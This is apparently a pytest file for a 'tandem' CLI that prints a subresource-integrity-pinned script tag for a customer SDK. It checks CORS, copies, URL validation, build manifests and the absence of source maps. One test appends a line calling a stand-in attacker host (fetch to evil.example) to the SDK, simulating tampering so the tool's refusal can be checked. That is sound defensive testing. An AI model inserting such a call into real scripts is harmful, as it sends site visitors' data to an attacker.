"""The customer SDK can be pinned: `tandem sdk` prints a <script> tag whose integrity value is the
hash of the bytes the server serves (checked against the build's manifest, never taken from it),
the server answers the tag's CORS request, and no source maps are shipped beside the bundles."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import subprocess
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from tandem import cli
from tandem.server.app import SDK_FILE
from tests.conftest import ServerFactory, tandem_in_process

SHOP = "https://shop.example"
TAG = re.compile(
    r'^<script src="(?P<src>[^"]+)"(?: data-tandem-server="(?P<server>[^"]+)")? '
    r'integrity="(?P<integrity>sha384-[A-Za-z0-9+/]+={0,2})" crossorigin="anonymous" '
    r'referrerpolicy="no-referrer"></script>$'
)


def tandem_sdk(*args: str) -> subprocess.CompletedProcess[str]:
    """`tandem sdk …`, in this process (tests/test_cli.py runs the real entry point)."""
    return tandem_in_process("sdk", *args)


def sri(data: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()


def test_the_printed_integrity_is_the_hash_of_the_served_sdk_with_cors(
    server_factory: ServerFactory,
) -> None:
    server = server_factory(allow_origins=(SHOP,))
    result = tandem_sdk("--base-url", server.base)
    assert result.returncode == 0, result.stderr
    tag = TAG.match(result.stdout.strip())
    assert tag, result.stdout
    assert tag["src"] == f"{server.base}/sdk/tandem.js"

    served = httpx.get(tag["src"], headers={"origin": SHOP})  # what crossorigin="anonymous" sends
    assert served.status_code == 200
    assert tag["integrity"] == sri(served.content)
    assert served.headers["access-control-allow-origin"] == SHOP
    assert "access-control-allow-credentials" not in served.headers


def test_the_default_address_comes_from_the_settings() -> None:
    result = tandem_sdk("--host", "tandem.internal", "--port", "8443")
    assert result.returncode == 0, result.stderr
    tag = TAG.match(result.stdout.strip())
    assert tag and tag["src"] == "http://tandem.internal:8443/sdk/tandem.js"


def test_a_copy_for_the_sites_own_origin_is_byte_for_byte_the_pinned_sdk(tmp_path: Path) -> None:
    copy_to = str(tmp_path / "js")
    server = "https://tandem.example.com"
    result = tandem_sdk("--base-url", server, "--copy-to", copy_to, "--src", "/static/tandem.js")
    assert result.returncode == 0, result.stderr
    tag = TAG.match(result.stdout.strip())
    assert tag, result.stdout
    assert tag["src"] == "/static/tandem.js"
    assert tag["server"] == server  # where the copy connects
    copy = (tmp_path / "js" / "tandem.js").read_bytes()
    assert copy == SDK_FILE.read_bytes()
    assert tag["integrity"] == sri(copy)


def test_a_base_url_that_is_not_an_origin_is_refused() -> None:
    result = tandem_sdk("--base-url", "https://tandem.example.com/some/path")
    assert result.returncode == 2
    assert result.stderr.startswith("tandem: ") and "Traceback" not in result.stderr
    assert result.stdout == ""


@pytest.fixture
def built_sdk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the built SDK and its manifest, put where the command looks for them."""
    folder = tmp_path / "static" / "sdk"
    folder.mkdir(parents=True)
    sdk = folder / "tandem.js"
    sdk.write_bytes(SDK_FILE.read_bytes())
    (folder / "integrity.json").write_text(SDK_FILE.with_name("integrity.json").read_text())
    monkeypatch.setattr("tandem.server.app.SDK_FILE", sdk)
    return sdk


def test_an_sdk_changed_after_the_build_is_not_pinned(built_sdk: Path) -> None:
    built_sdk.write_bytes(built_sdk.read_bytes() + b"\nfetch('https://evil.example/?' + 1);")
    result = CliRunner().invoke(cli.app, ["sdk", "--base-url", "https://tandem.example.com"])
    assert result.exit_code == 2
    assert "is not the file that was built" in result.output
    assert "<script" not in result.output


def test_an_sdk_without_its_manifest_is_not_pinned(built_sdk: Path) -> None:
    built_sdk.with_name("integrity.json").write_text(json.dumps({"console/console.js": "x"}))
    result = CliRunner().invoke(cli.app, ["sdk", "--base-url", "https://tandem.example.com"])
    assert result.exit_code == 2
    assert "no integrity manifest" in result.output


def test_the_build_records_both_bundles_and_ships_no_source_maps(
    server_factory: ServerFactory,
) -> None:
    manifest = json.loads(SDK_FILE.with_name("integrity.json").read_text())
    console = SDK_FILE.parent.parent / "console" / "console.js"
    assert manifest == {
        "sdk/tandem.js": sri(SDK_FILE.read_bytes()),
        "console/console.js": sri(console.read_bytes()),
    }
    server = server_factory()
    for bundle in ("/sdk/tandem.js", "/console/console.js"):
        body = httpx.get(server.base + bundle).content
        # (rrweb's bundled worker names its own map, which is not shipped either.)
        assert f"sourceMappingURL={bundle.rsplit('/', 1)[1]}.map".encode() not in body, bundle
        assert httpx.get(f"{server.base}{bundle}.map").status_code == 404
